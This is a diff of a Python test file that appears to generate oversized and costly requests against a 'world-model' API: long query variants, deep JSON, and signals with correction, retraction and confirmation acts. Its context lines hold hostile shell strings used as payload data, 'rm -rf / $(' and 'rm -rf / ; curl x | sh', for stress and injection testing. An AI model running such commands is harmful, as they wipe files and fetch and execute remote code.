@@ -171,6 +171,11 @@ def costliest(session_token: str, intake_id: str, claim_id: str) -> dict[tuple[s
             *_queries("/api/v2/world-model/live", limit="20000"),
             *_queries("/api/v2/world-model/live", limit="20000", asOf="2026-01-01T00:00:00Z"),
             *_queries("/api/v2/world-model/live", limit="20000", atRevision="1"),
+            *_queries("/api/v2/world-model/live", limit="20000", recordedAsOf="2026-01-01T00:00:00Z"),
+        ],
+        ("GET", "/api/v2/world-model/nodes/{nodeId}"): [
+            *_names("/api/v2/world-model/nodes/", "constitution/foundation"),
+            *_queries("/api/v2/world-model/nodes/constitution/foundation", recordedAsOf="2026-01-01T00:00:00Z"),
         ],
         ("POST", "/api/v2/world-model/query"): [
             *_bodies("/api/v2/world-model/query", KIB_64),
@@ -324,12 +329,16 @@ def _graph_queries() -> Iterator[tuple[str, Any]]:
             },
         )
     yield "a cursor", {"cursor": "eyJh" * 250, **most}
+    yield "what ended, too", {"search": "a* b* ser*", "include_ended": True, **most}
+    yield "a belief", {"search": "a* b* ser*", "recordedAsOf": "2100-01-01T00:00:00Z", **most}
     yield "everything", {"search": "a* b* ser*", "node_types": ["Concept"], **most}
 
 
 def _signals() -> Iterator[tuple[str, Any]]:
     base = {"type": "Observation", "title": "t", "source": "s"}
     links = [{"type": "RELATED_TO", "target": f"node/{number}"} for number in range(100)]
+    acts = {name: {"id": f"node/{name}", "reason": "r " * 250} for name in ("corrects", "retracts", "confirms")}
+    yield "every act", {**base, **acts, "links": links, "sourceClass": "owner", "signature": "A" * 200}
     yield "a large payload", {**base, "payload": {f"k{n}": "rm -rf / $(" for n in range(900)}}
     yield "a deep payload", {**base, "payload": {"a": json.loads('{"a":' * 14 + "1" + "}" * 14)}}
     yield "long text", {**base, "payload": {"text": "rm -rf / ; curl x | sh ; " * 900}}
